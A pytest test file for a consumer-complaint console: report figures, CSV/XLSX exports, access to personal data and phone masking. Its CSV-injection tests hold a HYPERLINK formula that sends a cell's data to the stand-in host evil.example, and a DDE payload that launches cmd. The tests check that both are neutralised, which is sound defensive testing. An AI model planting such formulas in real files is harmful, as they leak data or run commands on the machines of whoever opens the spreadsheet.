"""Statistics, the period report (page and Word), exports (CSV, XLSX) and a scan for unmasked phone numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime

import docx
import openpyxl
import pytest
from sqlalchemy import select

from bot.console.figures import compute
from bot.db import get_db
from bot.leads import deadlines
from bot.leads.workflow import Decision, transition
from bot.models import AuditEntry, Delivery, Lead, LeadEvent, Push, StaffUser
from tests.console_support import OTHER_PHONE, PHONE, Staff, add_lead, add_staff

MAY = "from=2026-05-01&to=2026-05-31"


@dataclass
class Notice:
    slug: str
    title: str
    date: date
    category: str = "消费提示"
    expired: bool = False


class NoticeShelf:
    """The notice store's read side (`.all()`), as branch `notices` provides it."""

    def __init__(self, notices):
        self.notices = notices

    def all(self):
        return list(self.notices)


def _move(s, lead_id, steps):
    lead = s.get(Lead, lead_id)
    for day, to, decision in steps:
        event = transition(s, lead, to, decision, today=day)
        event.at = datetime(day.year, day.month, day.day, 3, tzinfo=UTC)


@pytest.fixture
def may(app):
    """A month of work whose figures the report must repeat exactly."""
    d = date
    ids = {
        "l1": add_lead(app, received_on=d(2026, 5, 6)),
        "l2": add_lead(app, received_on=d(2026, 5, 7), category="预付卡"),
        "l3": add_lead(app, kind="report", received_on=d(2026, 5, 10)),
        "l4": add_lead(app, received_on=d(2026, 5, 12), category="预付卡", branch="dongqu"),
        "l5": add_lead(app, received_on=d(2026, 4, 20)),
        "l6": add_lead(app, received_on=d(2026, 5, 25), facts=f"商家电话{OTHER_PHONE}打不通"),
    }
    with get_db(app).scope() as s:
        _move(s, ids["l1"], [(d(2026, 5, 8), "已受理", None), (d(2026, 5, 9), "调解中", None)])
        _move(s, ids["l1"], [(d(2026, 5, 20), "已办结", Decision(outcome="退款"))])
        _move(s, ids["l2"], [(d(2026, 5, 9), "不予受理", Decision(ground="16-4"))])
        _move(s, ids["l3"], [(d(2026, 5, 11), "核查中", None), (d(2026, 5, 15), "已立案", None)])
        _move(s, ids["l4"], [(d(2026, 5, 13), "已转办", Decision(referred_to="市卫健局"))])
        _move(s, ids["l5"], [(d(2026, 5, 2), "已受理", None)])
        at = datetime(2026, 5, 15, 2, tzinfo=UTC)
        push = Push(notice_slug="may-alert", channel="mass", audience="all", state="done", due_at=at, started_at=at)
        s.add(push)
        s.flush()
        for i, state in enumerate(("sent", "sent", "failed")):
            s.add(Delivery(push_id=push.id, openid=f"o{i}", state=state))
    app.extensions["notices"] = NoticeShelf(
        [Notice("may-alert", "“五一”预付卡消费提示", date(2026, 5, 3)), Notice("old", "旧提示", date(2026, 1, 3))]
    )
    add_staff(app, "boss", "admin")
    add_staff(app, "h", "handler", "shiqi")
    add_staff(app, "v", "viewer")
    return ids


EXPECTED = [
    "2026年5月1日至2026年5月31日，本局通过微信公众号共收到消费者投诉举报线索5条，其中投诉4件、举报1件。",
    "期间受理投诉2件，不予受理1件，调解成功办结1件，终止调解0件；核查举报1件，立案查处1宗，不予立案0件；转办其他部门1件。",
    "本期共办结线索3条。",
    "投诉从收到至受理平均用时",
    "食品安全类收到3条、办结1条；预付卡类收到2条、办结2条。",
    "期间发布消费提示、维权指南等1篇（《“五一”预付卡消费提示》），向关注用户推送1次，送达2人次",
]


def _docx_text(data: bytes) -> tuple[str, list[list[str]]]:
    document = docx.Document(io.BytesIO(data))
    text = "\n".join(p.text for p in document.paragraphs)
    tables = [[c.text for c in row.cells] for table in document.tables for row in table.rows]
    return text, tables


def test_report_page_and_word_document_match_the_database(app, may):
    admin = Staff(app, "boss")
    page = admin.get(f"/console/report?{MAY}").get_data(as_text=True)
    for sentence in EXPECTED:
        assert sentence in page
    response = admin.get(f"/console/report.docx?{MAY}")
    assert response.mimetype.endswith("wordprocessingml.document")
    text, tables = _docx_text(response.data)
    assert "2026年5月1日至5月31日消费投诉举报线索办理情况（全局）" in text
    for sentence in EXPECTED:
        assert sentence in text
    assert ["食品安全", "3", "1"] in tables and ["预付卡", "2", "2"] in tables and ["东区街道分局", "1"] in tables
    with get_db(app).scope() as s:
        assert s.scalars(select(AuditEntry.detail).where(AuditEntry.action == "report_download")).all() == [
            "2026-05-01 至 2026-05-31"
        ]


def test_handler_report_counts_their_branch_only(app, may):
    text, tables = _docx_text(Staff(app, "h").get(f"/console/report.docx?{MAY}").data)
    assert "（石岐街道分局）" in text and "共收到消费者投诉举报线索4条" in text and "转办其他部门0件" in text
    assert not any(row[0] == "dongqu" for row in tables)


def test_dashboard_draws_every_chart(app, may):
    page = Staff(app, "v").get(f"/console/stats?{MAY}").get_data(as_text=True)
    assert page.count("<svg") == 6 and "<script" not in page
    assert '<strong id="received">5</strong>' in page
    for label in ("每周收到线索", "按重点领域", "按承办分局", "办结与超期", "投诉与举报", "推送次数", "送达人次"):
        assert label in page
    assert "投诉 4 件（80%）" in page and "举报 1 件（20%）" in page


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_exports_without_and_with_personal_data(app, may):
    admin = Staff(app, "boss")
    plain = _csv_rows(admin.post("/console/export", data={"status": "all", "format": "csv"}))
    assert "联系电话" not in plain[0] and len(plain) == 7
    body = "\n".join(",".join(r) for r in plain)
    assert PHONE not in body and OTHER_PHONE not in body and "139****4321" in body and "张三丰" not in body
    refused = admin.post("/console/export", data={"status": "all", "personal": "1"}, follow_redirects=True)
    assert "须填写理由" in refused.get_data(as_text=True)
    full = admin.post("/console/export", data={"status": "all", "personal": "1", "reason": "报送12315"})
    rows = _csv_rows(full)
    phone_col = rows[0].index("联系电话")
    assert {r[phone_col] for r in rows[1:]} == {PHONE} and rows[1][rows[0].index("投诉（举报）人姓名")] == "张三丰"
    xlsx = admin.post("/console/export", data={"status": "all", "format": "xlsx", "category": "预付卡"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data), read_only=True)["线索"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == "编号" and len(values) == 3 and {v[3] for v in values[1:]} == {"预付卡"}
    assert "联系电话" not in values[0]
    with get_db(app).scope() as s:
        details = s.scalars(select(AuditEntry.detail).where(AuditEntry.action == "export")).all()
    assert details == [
        "格式 csv；个人信息：不含",
        "格式 csv；个人信息：包含，理由：报送12315",
        "格式 xlsx；个人信息：不含",
    ]


def test_handler_cannot_export_personal_data(app, may):
    handler = Staff(app, "h")
    response = handler.post("/console/export", data={"personal": "1", "reason": "想看"}, follow_redirects=True)
    assert "只有管理员可以导出个人信息" in response.get_data(as_text=True)
    assert "包含个人信息" not in handler.get("/console/export").get_data(as_text=True)


def test_large_export_streams_in_batches(app):
    with get_db(app).scope() as s:
        for i in range(1203):
            s.add(Lead(ticket=f"B{i:05d}", kind="complaint", branch="shiqi", received_on=date(2026, 5, 1)))
    add_staff(app, "boss", "admin")
    response = Staff(app, "boss").post("/console/export", data={"status": "all"})
    assert response.is_streamed
    rows = _csv_rows(response)
    assert len(rows) == 1204 and rows[-1][0] == "B01202"


def _visible_text(data: bytes, mimetype: str) -> str:
    if mimetype.endswith("wordprocessingml.document") or mimetype.endswith("spreadsheetml.sheet"):
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            return "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    return data.decode("utf-8", "replace")


def test_no_unmasked_phone_anywhere_it_should_not_be(app, may):
    """Walk every console page and export as each role; the full number appears only on the reveal view."""
    lead_ids = list(may.values())
    add_staff(app, "e", "editor")
    with get_db(app).scope() as s:
        s.add(LeadEvent(lead_id=lead_ids[0], kind="note", text=f"消费者留了另一个号码 {OTHER_PHONE}"))
    for username in ("boss", "h", "v", "e"):
        staff = Staff(app, username)
        staff.post(f"/console/leads/{lead_ids[0]}/reveal", data={"reason": "核实"})  # allowed or not, then look
        urls = ["/console/", "/console/queue?status=all", "/console/triage", "/console/export", "/console/stats",
                f"/console/report?{MAY}", f"/console/report.docx?{MAY}", "/console/audit", "/console/pushes",
                "/console/staff"] + [f"/console/leads/{i}" for i in lead_ids]  # fmt: skip
        responses = [staff.get(url, follow_redirects=True) for url in urls]
        for fmt in ("csv", "xlsx"):
            responses.append(staff.post("/console/export", data={"status": "all", "format": fmt}))
        for response in responses:
            text = _visible_text(response.data, response.mimetype)
            assert PHONE not in text and OTHER_PHONE not in text, (username, response.request.path)
    lead_page = Staff(app, "boss").get(f"/console/leads/{lead_ids[0]}").get_data(as_text=True)
    assert "138****5678" in lead_page and "139****4321" in lead_page


def test_figures_count_each_lead_once_per_step_and_average_working_days(app, may):
    """The step counts are leads per kind and status, within the user's branches, and the acceptance average equals
    counting each accepted complaint's working days one by one, on both databases."""
    with app.app_context(), get_db(app).scope() as s:
        admin, handler = (s.scalars(select(StaffUser).where(StaffUser.username == u)).one() for u in ("boss", "h"))
        f = compute(s, admin, date(2026, 5, 1), date(2026, 5, 31), date(2026, 6, 1))
        mine = compute(s, handler, date(2026, 5, 1), date(2026, 5, 31), date(2026, 6, 1))
        accepted = [(lead.received_on, lead.accepted_on) for lead in s.scalars(select(Lead)) if lead.accepted_on]
        copies = s.execute(select(LeadEvent.lead_kind, Lead.kind).join(Lead).where(LeadEvent.kind == "status")).all()
    assert len(copies) == 8 and all(k == own for k, own in copies)  # transition() wrote every copy
    assert f.steps == {"complaint:已受理": 2, "complaint:调解中": 1, "complaint:已办结": 1, "complaint:不予受理": 1,
                       "report:核查中": 1, "report:已立案": 1, "complaint:已转办": 1}  # fmt: skip
    assert mine.steps == {k: n for k, n in f.steps.items() if k != "complaint:已转办"}  # l4 is another branch's
    cal = deadlines.calendar_for(app)
    days = [deadlines.working_days_left(r, a, cal) for r, a in accepted if date(2026, 5, 1) <= a <= date(2026, 5, 31)]
    assert len(days) == 2 and f.avg_days_to_accept == round(sum(days) / len(days), 1)


def test_the_upgrade_gives_an_old_status_event_its_lead_kind(tmp_path):
    """A status event written without the copy of its lead's kind (by a process older than migration 0008) gets it
    from migration 0013: the step counts read the copy alone."""
    from alembic import command
    from sqlalchemy import text

    from bot.db import Database
    from bot.db.migrate import alembic_config

    db = Database(f"sqlite:///{tmp_path / 'old.db'}")
    command.upgrade(alembic_config(db), "0012_lead_messages")
    with db.engine.begin() as conn:
        conn.execute(text(
            "INSERT INTO lead (id, ticket, kind, status, category, business_name, facts, request, received_at,"
            " received_on, extra, updated_at) VALUES (7, 'T-OLD', 'report', '核查中', '其他', '某店', 'x', 'y',"
            " '2026-05-06 01:00:00', '2026-05-06', '{}', '2026-05-06 01:00:00')"
        ))  # fmt: skip
        conn.execute(text("INSERT INTO lead_event (lead_id, at, kind, status, detail) "
                          "VALUES (7, '2026-05-07 02:00:00', 'status', '核查中', '{}')"))  # fmt: skip
    command.upgrade(alembic_config(db), "head")
    with db.engine.connect() as conn:
        assert conn.execute(text("SELECT lead_kind FROM lead_event")).scalar_one() == "report"
    db.engine.dispose()


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_exports_keep_text_as_text_and_numbers_as_numbers(app):
    """CSV injection (OWASP): a cell that would start a formula gets a leading ' and stays text; a control character
    pasted from Word is dropped instead of breaking the file; amounts and dates keep their type in XLSX."""
    from decimal import Decimal

    add_staff(app, "boss", "admin")
    add_lead(app, facts=FORMULA, request="+86 赔偿", amount=Decimal("300.00"), outcome="已退款\x0b\x01全额")
    admin = Staff(app, "boss")
    data = {"status": "all", "personal": "1", "reason": "核对"}
    rows = _csv_rows(admin.post("/console/export", data={**data, "format": "csv"}))
    header, row = rows[0], rows[1]
    assert row[header.index("事实与理由")] == "'" + FORMULA and row[header.index("诉求")] == "'+86 赔偿"
    assert row[header.index("办理结果")] == "已退款全额" and row[header.index("涉及金额（元）")] == "300.00"
    response = admin.post("/console/export", data={**data, "format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["线索"]
    header = [c.value for c in sheet[1]]
    cells = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert cells["事实与理由"].data_type == "s" and cells["事实与理由"].value == "'" + FORMULA
    assert cells["办理结果"].value == "已退款全额"
    assert cells["涉及金额（元）"].data_type == "n" and cells["涉及金额（元）"].value == 300
    assert cells["收到日期"].is_date and cells["收到日期"].value.date() == date(2026, 5, 6)


def test_exports_name_branches_and_type_amounts_and_dates(app):
    """Branches by their names (content/branches.toml), the category by its name; in the XLSX an amount is a number
    cell with two decimals, a date a date cell shown as 2026-05-06, a full purchase date too, the consumer's own
    words (上周六) text; text that would start a formula still gets its leading '."""
    from decimal import Decimal

    add_staff(app, "boss", "admin")
    add_lead(app, ticket="T1", branch="dongqu", category="网络餐饮", amount=Decimal("1280.50"),
             purchase_date="2026年5月3日", business_name="=cmd|' /C calc'!A0")  # fmt: skip
    add_lead(app, ticket="T2", branch=None, purchase_date="上周六")
    admin = Staff(app, "boss")
    rows = _csv_rows(admin.post("/console/export", data={"status": "all", "format": "csv"}))
    header = rows[0]
    by_ticket = {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert by_ticket["T1"]["承办分局"] == "东区街道分局" and by_ticket["T2"]["承办分局"] == "待分派"
    assert by_ticket["T1"]["重点领域"] == "网络餐饮" and by_ticket["T1"]["涉及金额（元）"] == "1280.50"
    assert by_ticket["T1"]["消费日期"] == "2026-05-03" and by_ticket["T2"]["消费日期"] == "上周六"
    response = admin.post("/console/export", data={"status": "all", "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.data))["线索"]
    header = [c.value for c in sheet[1]]
    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    t1, t2 = cells["T1"], cells["T2"]
    assert (t1["承办分局"].value, t2["承办分局"].value, t1["重点领域"].value) == ("东区街道分局", "待分派", "网络餐饮")
    amount = t1["涉及金额（元）"]
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 1280.5, "#,##0.00")
    for name in ("收到日期", "受理期限"):
        assert t1[name].data_type == "d" and t1[name].number_format == "yyyy-mm-dd", name
    assert t1["收到日期"].value.date() == date(2026, 5, 6)
    assert t1["消费日期"].data_type == "d" and t1["消费日期"].value.date() == date(2026, 5, 3)
    assert t2["消费日期"].data_type == "s" and t2["消费日期"].value == "上周六"
    assert t1["被投诉（举报）经营者"].data_type == "s" and t1["被投诉（举报）经营者"].value == "'=cmd|' /C calc'!A0"
    assert sheet.freeze_panes == "B2" and sheet["A1"].font.b


def test_a_control_character_in_a_category_does_not_break_the_word_report(app):
    add_staff(app, "v", "viewer")
    add_lead(app, received_on=date(2026, 5, 6), category="食品\x01安全")
    response = Staff(app, "v").get(f"/console/report.docx?{MAY}")
    assert response.status_code == 200
    _text, tables = _docx_text(response.data)
    assert ["食品安全", "1", "0"] in tables
